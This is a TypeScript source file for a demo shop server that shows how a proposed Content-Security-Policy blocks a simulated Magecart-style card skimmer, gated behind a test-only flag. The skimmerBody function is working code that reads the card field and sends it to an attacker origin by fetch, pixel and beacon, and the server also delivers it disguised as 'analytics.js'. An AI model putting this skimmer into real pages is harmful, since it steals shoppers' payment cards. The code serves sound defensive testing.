/**
 * The demo shop: a stand-in for a tenant's website, on its own origin (another port), with the
 * widget embedded exactly as a tenant would embed it — one script tag with SRI, nothing else — and
 * served with the Content-Security-Policy Parley proposes for the tenant, reporting to Parley.
 *
 * Attack simulation (tests only): with DEMO_ALLOW_SKIMMER_SIMULATION=1,
 * /demo/checkout?simulate=skimmer&attacker=<origin> adds a "compromised first-party script" (allowed
 * by script-src 'self', as real Magecart-style skimmers are) and an injected inline script, both of
 * which try to send the card field to the attacker origin. &csp=off drops the policy, to show what
 * the policy prevents; &reporting=uri drops report-to and the Reporting-Endpoints header, so browsers use
 * report-uri (headless Chromium does not upload Reporting API reports; see docs/SECURITY.md).
 * Without the variable these parameters are ignored.
 */
import Fastify, { type FastifyInstance } from 'fastify';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEMO_TEMPLATES_DIR } from '../../paths.js';
import type { CspProposal } from '../../../protocol/csp.js';

export interface DemoOptions {
  snippet: () => string;
  /** The tenant's proposed policy; the demo sends it as a real shop would. */
  csp?: () => Promise<CspProposal>;
  allowSkimmerSimulation?: boolean;
  /** Where the agent console is (linked from the shop's "try these" box). */
  consoleUrl?: string;
}

const escapeHtml = (s: string) => s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** The "try these" box: what to do in the demo to see each part of Parley. Static HTML, no script. */
function tryThese(consoleUrl: string, simulation: boolean): string {
  const consoleHref = escapeHtml(consoleUrl);
  const attack = simulation
    ? `<a href="/demo/checkout?simulate=skimmer">open the checkout with a simulated skimmer</a>: the page's policy blocks it and the console's Security view raises the report`
    : `start Parley with <code>DEMO_ALLOW_SKIMMER_SIMULATION=1</code> and open <code>/demo/checkout?simulate=skimmer</code>: the page's policy blocks a simulated skimmer and the console's Security view raises the report (the browser tests <code>e2e/attacks.test.ts</code> run every attack)`;
  return `<aside class="try sans" aria-labelledby="try-title">
  <h2 id="try-title">Try these</h2>
  <ol>
    <li><b>Card redaction:</b> open the chat and type <code>my card is 4242 4242 4242 4242</code>: the number is hidden in your browser before it is sent, and again on the server.</li>
    <li><b>The bot:</b> ask <code>How long does shipping take?</code> or <code>Can I return a jacket?</code>: it answers from the shop's articles.</li>
    <li><b>Handoff:</b> press <i>Talk to a person</i> (or write <code>I want a human</code>), then answer from the <a href="${consoleHref}">agent console</a> with the admin login printed at start.</li>
    <li><b>Attack simulations:</b> ${attack}.</li>
  </ol>
</aside>`;
}

const skimmerBody = (attacker: string) => `(function () {
  var attacker = ${JSON.stringify(attacker)};
  function steal() {
    var card = document.querySelector('#card-number');
    if (!card || !card.value) return;
    var data = encodeURIComponent(card.value);
    try { fetch(attacker + '/collect', { method: 'POST', mode: 'no-cors', body: card.value }); } catch (e) {}
    try { new Image().src = attacker + '/pixel.gif?c=' + data; } catch (e) {}
    try { navigator.sendBeacon(attacker + '/beacon', card.value); } catch (e) {}
  }
  document.addEventListener('change', steal, true);
  document.addEventListener('focusout', steal, true);
})();
`;

function attackerOrigin(raw: unknown): string {
  try {
    const u = new URL(String(raw));
    if (u.protocol === 'http:' || u.protocol === 'https:') return u.origin;
  } catch {
    /* fall through */
  }
  return 'https://skimmer.invalid';
}

export function demoSite(opts: DemoOptions | (() => string)): FastifyInstance {
  const o: DemoOptions = typeof opts === 'function' ? { snippet: opts } : opts;
  const app = Fastify({ logger: false });
  const page = (name: string) => readFileSync(join(DEMO_TEMPLATES_DIR, name), 'utf8');
  const render = (name: string, extra = '') =>
    page(name)
      .replace('{{TRY_THESE}}', tryThese(o.consoleUrl ?? '/console/', !!o.allowSkimmerSimulation))
      .replaceAll('{{CONSOLE_URL}}', escapeHtml(o.consoleUrl ?? '/console/'))
      .replace('{{EMBED_SNIPPET}}', o.snippet() + extra);
  const headers = async (cspOff: boolean, reportUriOnly = false, skimmer = false): Promise<Record<string, string>> => {
    const h: Record<string, string> = { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-cache' };
    // The strictest a shop can be: every script it loads must carry an SRI hash (Parley's loader does).
    // Not with the skimmer simulation, whose "compromised first-party script" has none.
    if (!skimmer) h['integrity-policy'] = 'blocked-destinations=(script)';
    if (o.csp && !cspOff) {
      // The CSP Parley proposes to the tenant: scripts only from itself and Parley's pinned loader,
      // requests only to itself, violations reported to Parley.
      const p = await o.csp();
      // report-uri only: browsers ignore report-uri whenever the policy names a report-to group.
      h['content-security-policy'] = reportUriOnly ? p.policy.replace(/;\s*report-to [^;]+/, '') : p.policy;
      if (!reportUriOnly) h['reporting-endpoints'] = p.reportingEndpoints;
    }
    return h;
  };
  const simulation = (query: unknown) => {
    const q = (query ?? {}) as Record<string, unknown>;
    return o.allowSkimmerSimulation && q.simulate === 'skimmer' ? { attacker: attackerOrigin(q.attacker), cspOff: q.csp === 'off', reportUriOnly: q.reporting === 'uri' } : null;
  };
  app.get('/', (_req, reply) => reply.redirect('/demo'));
  app.get('/demo', async (_req, reply) => reply.headers(await headers(false)).send(render('shop.html')));
  app.get('/demo/checkout', async (req, reply) => {
    const sim = simulation(req.query);
    const extra = sim
      ? `\n<script src="/demo/assets/analytics.js?attacker=${encodeURIComponent(sim.attacker)}"></script>\n<script>${skimmerBody(sim.attacker)}</script>\n`
      : '';
    return reply.headers(await headers(!!sim?.cspOff, !!sim?.reportUriOnly, !!sim)).send(render('checkout.html', extra));
  });
  if (o.allowSkimmerSimulation) {
    app.get('/demo/assets/analytics.js', (req, reply) =>
      reply.header('content-type', 'text/javascript; charset=utf-8').header('cache-control', 'no-store').send(skimmerBody(attackerOrigin((req.query as Record<string, unknown>).attacker))),
    );
  }
  return app;
}
